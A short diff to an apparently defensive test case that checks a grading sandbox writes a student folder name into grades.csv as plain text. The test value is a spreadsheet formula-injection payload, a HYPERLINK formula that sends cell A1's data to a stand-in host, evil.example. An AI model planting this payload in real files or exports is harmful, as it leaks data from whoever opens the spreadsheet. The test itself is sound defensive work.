@@ -1,6 +1,6 @@
 """A student folder named like a spreadsheet formula: grades.csv must show it as text."""
 KIND = "damage"
-LAYER = 'inert outputs'   # what must stop it: a row of the README's layer tables
+LAYER = 'inert outputs'   # what must stop it: a row of docs/reference/sandbox-layers.md
 EXPECT = {'score': 'honest_right', 'review': False}
 STUDENT_ID = '=HYPERLINK("evil.example?"&A1,"click")'
 
